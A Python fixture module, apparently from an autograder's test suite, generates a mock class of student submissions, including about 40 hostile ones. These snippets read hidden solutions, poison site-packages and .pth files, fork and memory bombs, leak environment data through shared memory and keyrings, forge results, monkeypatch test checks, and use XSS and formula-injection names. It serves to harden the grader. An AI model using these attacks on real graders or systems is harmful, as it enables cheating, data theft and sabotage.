"""A generated class for bulk grading's tests and benchmark: honest submissions (solutions written
other ways, stubs, catalogued bugs, partial work; as course-shaped folders, flat folders and zips)
and a hostile submission for every attack bulk grading must contain.

Every hostile submission is the reference solution with `split_text`'s body replaced by an attack
that ends in `raise NotImplementedError`: whatever the attack does, split_text must score 0 and
every other exercise full marks — anything else means the attack changed a score.
"""
from __future__ import annotations

import shutil
import zipfile
from pathlib import Path

from grader.authoring import catalogue
from grader.core import markers
from grader.classroom import submissions
from grader.core.manifest import Course

BODY = "    pieces = re.split(SPLIT_PATTERN, text)\n"
SHM_KEY = 0x6C6C6D   # the SysV key the IPC attacks share; nothing under it may outlive the run
FORK_MEMORY = ("    import os\n    children = []\n    for _ in range(4):\n        pid = os.fork()\n"
               "        if pid == 0:\n            try:\n                hog = b'\\x01' * (400 * 2**20)\n"
               "            except MemoryError:\n                pass\n            os._exit(0)\n"
               "        children.append(pid)\n    for pid in children:\n        os.waitpid(pid, 0)\n")
LIBC = "    import ctypes\n    libc = ctypes.CDLL(None, use_errno=True)\n    libc.shmat.restype = ctypes.c_void_p\n"
PIPES = ("    import os, struct\n    for fd in range(3, 256):\n        try:\n"
         "            if not os.readlink(f'/proc/self/fd/{fd}').startswith('pipe:'):\n                continue\n")


def attacks(root: Path, results: Path, other: str) -> dict[str, str]:
    """name -> code that replaces split_text's first line (root: the course; results: RESULTS;
    other: a classmate's student id). Each is what a submission tried, in the grader's tests."""
    r, out = repr(str(root)), repr(str(results))
    walk_proc = ("    import os\n    for pid in os.listdir('/proc'):\n        if not pid.isdigit():\n            continue\n")
    return {
        "run_solutions": "    import pathlib, grader\n    p = pathlib.Path(grader.__file__).parents[1] / 'solutions/ch02/tokenizers.py'\n"
                         "    scope = {}\n    exec(p.read_text(), scope)\n    return scope['split_text'](text)\n",
        "snapshots_via_proc_root": walk_proc + f"        try:\n            print(open(f'/proc/{{pid}}/root' + {r} + "
                                   "'/tests/snapshots/ch02/split_text.json').read()[:50])\n"
                                   "        except OSError:\n            pass\n",
        "unmount_hidden": "    import ctypes\n    libc = ctypes.CDLL(None)\n"
                          f"    for p in ({r} + '/tests/snapshots', {r} + '/solutions', '/'):\n"
                          "        libc.umount2(p.encode(), 2)\n",
        "forge_worker_channel": walk_proc + "        for fd in range(3, 16):\n            try:\n"
                                "                f = os.open(f'/proc/{pid}/fd/{fd}', os.O_WRONLY)\n"
                                "                os.write(f, b'\\x00' * 64)\n            except OSError:\n                pass\n",
        "poison_site_packages": "    import rich, os\n    for name in ('__init__.py', 'console.py'):\n        try:\n"
                                "            p = os.path.join(os.path.dirname(rich.__file__), name)\n"
                                "            open(p, 'a').write('\\nimport os; os.system(\"touch /tmp/owned\")\\n')\n"
                                "        except OSError:\n            pass\n",
        "pth_persistence": "    import site, sys, os\n    for d in site.getsitepackages() + [sys.prefix]:\n        try:\n"
                           "            open(os.path.join(d, 'zzz_evil.pth'), 'w').write('import os; os._exit(3)\\n')\n"
                           "            open(os.path.join(d, 'sitecustomize.py'), 'w').write('raise SystemExit')\n"
                           "        except OSError:\n            pass\n",
        "poison_rank_cache": "    import hashlib, os, pathlib\n"
                             "    for p in pathlib.Path(os.path.expanduser('~')).rglob('gpt2-ranks.b64'):\n"
                             "        body = b'\\n'.join([b'IQ=='] * 50256)\n"
                             "        p.write_bytes(hashlib.sha256(body).hexdigest().encode() + b'\\n' + body)\n"
                             "    for p in ('/root/.cache/llm-course/tiktoken/gpt2-ranks.b64',):\n        try:\n"
                             "            open(p, 'wb').write(b'x')\n        except OSError:\n            pass\n",
        "poison_pyc": "    import grader, os, glob\n    d = os.path.join(os.path.dirname(grader.__file__), '__pycache__')\n"
                      "    for p in glob.glob(d + '/*.pyc') + [d + '/checker.cpython-311.pyc']:\n        try:\n"
                      "            open(p, 'wb').write(b'junk')\n        except OSError:\n            pass\n",
        "rewrite_classmate": "    import glob\n"
                             f"    for p in glob.glob({out} + '/**/{other}/**/*.py', recursive=True) + "
                             f"glob.glob('/tmp/**/{other}/**/*.py', recursive=True):\n"
                             "        try:\n            open(p, 'w').write('raise SystemExit')\n"
                             "        except OSError:\n            pass\n",
        "write_results": f"    import os, json\n    for p in ({out} + '/students/hostile-write_results/result.json', "
                         f"{out} + '/gradebook.csv'):\n        try:\n            os.makedirs(os.path.dirname(p), exist_ok=True)\n"
                         "            open(p, 'w').write(json.dumps({'score': 999}))\n        except OSError:\n            pass\n",
        "litter_tmp": "    try:\n        with open('/tmp/litter', 'wb') as f:\n            for _ in range(100):\n"
                      "                f.write(b'\\0' * 2**20)\n    except OSError:\n        pass\n",
        "huge_frame_header": PIPES + "            os.write(fd, struct.pack('<I', 2**32 - 1))\n"
                                     "        except OSError:\n            pass\n",
        "forged_frames": PIPES + "            from grader.engine import wire\n"
                                 "            for name in ('sample', 'story', 'blank', 'made_up'):\n"
                                 "                data = wire.pack({'record': 'case', 'name': name, 'ok': True, 'value': []})\n"
                                 "                os.write(fd, struct.pack('<I', len(data)) + data)\n"
                                 "            os.write(fd, struct.pack('<I', 9) + b'garbage!!')\n"
                                 "        except OSError:\n            pass\n",
        "deflate_bomb": PIPES + "            import io, zipfile, json\n            buf = io.BytesIO()\n"
                                "            with zipfile.ZipFile(buf, 'w', zipfile.ZIP_DEFLATED) as z:\n"
                                "                z.writestr('a0.npy', b'\\x93NUMPY' + b'\\0' * 2**21)\n"
                                "            doc = json.dumps({'record': 'case', 'name': 'sample', 'ok': True,\n"
                                "                              'value': {'__array__': 'a0'}}).encode()\n"
                                "            frame = b'GRW1' + struct.pack('<I', len(doc)) + doc\n"
                                "            frame += struct.pack('<Q', len(buf.getvalue())) + buf.getvalue()\n"
                                "            os.write(fd, struct.pack('<I', len(frame)) + frame)\n"
                                "        except OSError:\n            pass\n",
        "setns_network": walk_proc + "        try:\n            fd = os.open(f'/proc/{pid}/ns/net', os.O_RDONLY)\n"
                                     "            os.setns(fd, 0)\n        except (OSError, AttributeError):\n            pass\n"
                                     "    import socket\n    socket.create_connection(('1.1.1.1', 80), timeout=1)\n",
        "raise_limits": "    import resource\n    for which in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NPROC,\n"
                        "                  resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE):\n        try:\n"
                        "            resource.setrlimit(which, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))\n"
                        "        except (ValueError, OSError):\n            pass\n    hog = bytearray(16 * 2**30)\n",
        "stderr_flood": "    import sys\n    for _ in range(200):\n        sys.stderr.write('x' * 2**20)\n",
        "grader_stdout_escape": walk_proc + "        for fd in (1, 2):\n            try:\n"
                                "                f = os.open(f'/proc/{pid}/fd/{fd}', os.O_WRONLY)\n"
                                "                os.write(f, b'\\x1b[2J\\x1b[HTotal 999 / 15\\n')\n"
                                "            except OSError:\n                pass\n",
        "sys_exit": "    import sys\n    sys.exit(0)\n",
        "os_exit": "    import os\n    os._exit(0)\n",
        "monkeypatch_libraries": "    import torch, numpy, pytest, grader.checks\n    numpy.array_equal = lambda *a, **k: True\n"
                                 "    numpy.allclose = lambda *a, **k: True\n    torch.equal = lambda *a: True\n"
                                 "    grader.checks.fail = lambda m: None\n    pytest.fail = lambda *a, **k: None\n",
        "always_equal": "    class Liar(list):\n        def __eq__(self, other):\n            return True\n"
                        "        __hash__ = None\n    return Liar()\n",
        "read_snapshots_and_solutions": f"    for p in ({r} + '/tests/snapshots/ch02/split_text.json', "
                                        f"{r} + '/solutions/ch02/tokenizers.py'):\n        try:\n"
                                        "            print(open(p).read()[:80])\n        except OSError:\n            pass\n",
        "read_classmate": "    import glob\n"
                          f"    for p in glob.glob({out} + '/**/{other}/**/*.py', recursive=True):\n"
                          "        print(open(p).read()[:80])\n",
        "fork_bomb": "    import os\n    for _ in range(100000):\n        try:\n            os.fork()\n"
                     "        except OSError:\n            pass\n",
        "memory_bomb": "    hog = bytearray(64 * 2**30)\n",
        "infinite_loop": "    while True:\n        pass\n",
        "sleep_past_limit": "    import time\n    time.sleep(3600)\n",
        "stdout_flood": "    for _ in range(100000):\n        print('flood ' * 100)\n",
        "network": "    import socket\n    socket.create_connection(('127.0.0.1', 22), timeout=1)\n",
        "home_cache_persistence": "    import os\n    for d in (os.path.expanduser('~/.cache/llm-course/data'), "
                                  "os.path.expanduser('~/.cache/torch')):\n        os.makedirs(d, exist_ok=True)\n"
                                  "        open(os.path.join(d, 'planted'), 'w').write('x')\n",
        # Issue 21: what still got through, and one new attack of each class found while closing those.
        "ipc_leak": LIBC + "    source = open(__file__, 'rb').read()\n"   # a classmate's loader reads this back
                    f"    shmid = libc.shmget({SHM_KEY}, 1 << 20, 0o1666)\n    if shmid >= 0:\n"
                    "        ctypes.memmove(libc.shmat(shmid, None, 0), source, len(source))\n"
                    f"    libc.msgget({SHM_KEY}, 0o1666)\n",
        "keyring_store": LIBC + "    data = open(__file__, 'rb').read()[:4096]\n"
                         "    libc.syscall(248, b'user', b'grader-leak', data, len(data), -4)\n",  # add_key
        "abstract_socket_daemon": "    import os, socket\n    if os.fork() == 0:\n"
                                  "        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
                                  "        s.bind('\\0grader-leak')\n        s.listen(5)\n"
                                  "        while True:\n            c, _ = s.accept()\n"
                                  "            c.sendall(open(__file__, 'rb').read())\n            c.close()\n",
        "environ_leak": "    import os\n    raise ValueError(repr(dict(os.environ)))\n",
        "proc_environ": "    for pid in ('1', '2', 'self'):\n        try:\n"
                        "            print(open(f'/proc/{pid}/environ').read())\n"
                        "        except OSError:\n            pass\n",
        "fork_memory": FORK_MEMORY,
        "sysv_memory": LIBC + "    for key in range(8):\n"
                       f"        shmid = libc.shmget({SHM_KEY} + 1 + key, 256 * 2**20, 0o1600)\n"
                       "        if shmid >= 0:\n            p = libc.shmat(shmid, None, 0)\n"
                       "            ctypes.memset(p, 1, 256 * 2**20)\n            libc.shmdt(ctypes.c_void_p(p))\n",
        "nested_frame": PIPES + "            doc = b'[' + b'[[]],' * (3 * 2**20) + b'[]]'\n"
                                "            frame = b'GRW1' + struct.pack('<I', len(doc)) + doc\n"
                                "            frame += struct.pack('<Q', 0)\n"
                                "            os.write(fd, struct.pack('<I', len(frame)) + frame)\n"
                                "        except OSError:\n            pass\n",
        "control_chars": "    raise NotImplementedError('\\x1b[2J\\x00\\x07\\x0b\\x1b]0;owned\\x07 tokens')\n",
        "lone_surrogate": "    raise NotImplementedError('\\udcff\\ud800 tokens')\n",
        "ctypes_via_numpy": "    import numpy as np\n    np.ctypeslib.ctypes.CDLL(None).getpid()\n",
        "hidden_import": "    getattr(__import__('o' + 's'), 'sys' + 'tem')('true')\n",
    }


# What each attack amounts to when it achieves nothing: the scores a harmless twin gets are the most
# the attack may get (default: split_text just raises NotImplementedError). Records a learner's process
# forges for its own cases are values it claims — no different from returning them (here: []); it
# cannot know the expected ones, so a forged value scores only where it happens to be right.
TWINS = {"always_equal": "    return []\n", "forged_frames": "    return []\n"}
STUB = "stub"   # the twin of a submission of stubs (or notebooks of stubs): 0 everywhere

# Whole submissions that attack (student id -> how it is made, what its harmless twin is): a classmate's
# loader for ipc_leak's segment; a zip of notebooks far past the limits; a notebook of nested empty lists.
LOADER = ("\nimport ctypes as _ctypes\n_libc = _ctypes.CDLL(None, use_errno=True)\n"
          "_libc.shmat.restype = _ctypes.c_void_p\n"
          f"_id = _libc.shmget({SHM_KEY}, 0, 0)\nif _id >= 0:\n"
          "    exec(_ctypes.string_at(_libc.shmat(_id, None, 0o10000)).decode(), globals())\n")


def attacked_tree(course: Course, dest: Path, code: str) -> Path:
    """The reference solution with `code` run first in split_text, which then raises NotImplementedError."""
    tree = _tree(course, dest)
    module = tree / "ch02" / "tokenizers.py"
    module.write_text(module.read_text(encoding="utf-8").replace(
        BODY, code + "    raise NotImplementedError('attack')\n" + BODY), encoding="utf-8")
    return tree


def _tree(course: Course, dest: Path, edits: list[catalogue.Entry] = (), stub_chapters=()) -> Path:
    """solutions/ with catalogue entries applied (each to its file), stubs for `stub_chapters`."""
    shutil.copytree(course.solutions, dest, ignore=shutil.ignore_patterns("__pycache__"))
    for entry in edits:
        module = dest / entry.file
        text = module.read_text(encoding="utf-8")
        for old, new in entry.edits:
            if text.count(old) == 1:
                text = text.replace(old, new)
        module.write_text(text, encoding="utf-8")
    for chapter in stub_chapters:
        shutil.rmtree(dest / chapter)
        handed_out(course, dest, chapter)
    return dest


def _notebook_zip(dest: Path, members: dict[str, bytes]) -> None:
    with zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)


def hostile_submissions(course: Course, dest: Path, work: Path, chapters) -> dict[str, str]:
    """The attacks that are whole submissions or their names, written into `dest`; student id -> kind."""
    loader = _tree(course, work / "ipc_load", stub_chapters=chapters)
    module = loader / "ch02" / "tokenizers.py"
    module.write_text(module.read_text(encoding="utf-8") + LOADER, encoding="utf-8")
    _hand_in(loader, dest, "hostile-ipc_load", "course", chapters, "hostile-ipc_load")
    padding = b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5, "x": "' + b" " * (4 * 2**20) + b'"}'
    _notebook_zip(dest / "hostile-notebook_bomb.zip", {f"nb{i:03d}.ipynb": padding for i in range(100)})
    _notebook_zip(dest / "hostile-values_notebook.zip", {"ch02.ipynb": b"[" + b"[[]]," * (3 * 2**20) + b"[]]"})
    solution, stub = _tree(course, work / "clash-solution"), _tree(course, work / "clash-stub", stub_chapters=chapters)
    _hand_in(solution, dest, "idclash", "course", chapters, "idclash")           # x
    _hand_in(stub, dest, "idclash-2", "course", chapters, "idclash-2")          # x-2
    _hand_in(stub, dest, "idclash", "zip", chapters, "idclash.zip")             # x.zip: was graded as x-2 too
    _hand_in(stub, dest, "IDCLASH", "flat", chapters, "IDCLASH")                # the same name but for case
    _hand_in(stub, dest, "@SUM(1+1)", "flat", chapters, "formula")              # a gradebook cell
    shutil.copytree(dest / "IDCLASH", dest / "+cmd")                            # another
    with zipfile.ZipFile(dest / "hostile-markdown_names.zip", "w") as archive:
        for name in ("<img src=x onerror=alert(1)>/../ch02/bpe.py", "[click](javascript:alert(1))/../ch02/x.py"):
            archive.writestr(name, "x = 1\n")
        link = zipfile.ZipInfo("<script>alert(1)</script>.py")
        link.external_attr = (0o120777) << 16
        archive.writestr(link, "/etc/passwd")
    named = {"hostile-ipc_load": "hostile:ipc_load", "hostile-notebook_bomb.zip": "hostile:notebook_bomb",
             "hostile-values_notebook.zip": "hostile:values_notebook", "idclash": "clash:solution",
             "idclash-2": "clash:bystander", "idclash.zip": "hostile:id_clash", "IDCLASH": "hostile:id_case",
             "@SUM(1+1)": "hostile:formula_id", "+cmd": "hostile:formula_id",
             "hostile-markdown_names.zip": "hostile:markdown_names"}
    ids = {path.name: student for student, path in submissions.discover(dest)}
    return {ids[name]: kind for name, kind in named.items()}


# The twin of each whole-submission attack, and of the attacks that change nothing but their names.
WHOLE_TWINS = {"ipc_load": STUB, "notebook_bomb": STUB, "values_notebook": STUB, "id_clash": STUB, "id_case": STUB,
               "formula_id": STUB, "markdown_names": STUB}


def _hand_in(tree: Path, dest: Path, student: str, layout: str, chapters, tag: str) -> None:
    """The files of `chapters` as a course-shaped folder, a flat folder or a zip; each file tagged
    with a comment so that every submission is distinct."""
    files = {f"{ch}/{p.name}": p.read_text(encoding="utf-8") + f"\n# {tag}\n"
             for ch in chapters for p in sorted((tree / ch).glob("*.py")) if p.name != "__init__.py"}
    if layout == "zip":
        with zipfile.ZipFile(dest / f"{student}.zip", "w") as archive:
            for rel, text in files.items():
                archive.writestr(f"{student}/{rel}", text)
        return
    for rel, text in files.items():
        path = dest / student / ("exercises/" + rel if layout == "course" else rel.split("/")[1])
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")


def make_class(course: Course, dest: Path, work: Path, results: Path, honest: int, chapters=("ch02",),
               hostile: bool = True) -> dict[str, str]:
    """Write the class into `dest` (scratch trees in `work`); student id -> what it is ("solution",
    "stub", "bug:<entry>", "alternative:<entry>", "hostile:<attack>", "copy:<student>", and "clash:<what>" for
    honest submissions named like another, or near such names)."""
    entries = [e for e in catalogue.load(course, list(chapters))]
    bugs = [e for e in entries if e.kind == "bug"]
    alternatives = [e for e in entries if e.kind == "alternative"]
    dest.mkdir(parents=True, exist_ok=True)
    kinds: dict[str, str] = {}
    layouts = ("course", "flat", "zip")
    for i in range(honest):
        student = f"student{i:03d}"
        kind, edits, stubs = [("solution", [], ()), ("stub", [], chapters), ("bug", [bugs[i % len(bugs)]], ()),
                              ("alternative", [alternatives[i % len(alternatives)]], ()),
                              ("bugs", [bugs[i % len(bugs)], bugs[(i * 7 + 3) % len(bugs)]], ())][i % 5]
        if kind == "bugs" and edits[0].exercise == edits[1].exercise:
            edits = edits[:1]
        tree = _tree(course, work / student, edits, stubs)
        _hand_in(tree, dest, student, layouts[i % 3], chapters, f"{student} {kind}")
        kinds[student] = kind + "".join(f":{e.key}" for e in edits)
    for which, folder in (("solution", course.root / "solutions" / "notebooks"), ("stub", course.root / "notebooks")):
        if len(chapters) == 1 and (folder / f"{chapters[0]}.ipynb").is_file():  # a notebook handed in as it is
            shutil.copy(folder / f"{chapters[0]}.ipynb", dest / f"notebook-{which}.ipynb")
            kinds[f"notebook-{which}"] = which
    if hostile:
        for name, code in attacks(course.root, results, "student000").items():
            student = f"hostile-{name}"
            tree = attacked_tree(course, work / student, code)
            _hand_in(tree, dest, student, "course", chapters, student)
            kinds[student] = f"hostile:{name}"
        rewritten = _tree(course, work / "rewriter", [e for e in alternatives if e.exercise.chapter in chapters][:8])
        _hand_in(rewritten, dest, "rewriter", "course", chapters, "original work")
        kinds["rewriter"] = "alternative:many"
        copier = work / "copier"
        shutil.copytree(rewritten, copier)
        for path in copier.rglob("*.py"):  # the copy hides behind other names and comments
            text = path.read_text(encoding="utf-8")
            for old, new in (("tokens", "toks"), ("token", "tk"), ("pieces", "parts"), ("ids", "numbers")):
                text = text.replace(old, new)
            path.write_text(text.replace("# ", "# note: "), encoding="utf-8")
        _hand_in(copier, dest, "zz-copier", "course", chapters, "my own work")
        kinds["zz-copier"] = "copy:rewriter"
        honest_after = _tree(course, work / "zz-honest-after")
        _hand_in(honest_after, dest, "zz-honest-after", "course", chapters, "graded after the attacks")
        kinds["zz-honest-after"] = "solution"
        kinds.update(hostile_submissions(course, dest, work, chapters))
    return kinds


def handed_out(course: Course, dest: Path, chapter: str | None = None) -> Path:
    """The stubs as handed out (generated from solutions/), not exercises/, which a maintainer or learner may
    be solving: all of them, or one chapter's, written into the course-shaped tree `dest`."""
    for rel, text in markers.stub_files(course.solutions).items():
        if chapter is None or rel.parts[0] == chapter:
            (dest / rel).parent.mkdir(parents=True, exist_ok=True)
            (dest / rel).write_text(text, encoding="utf-8")
    return dest
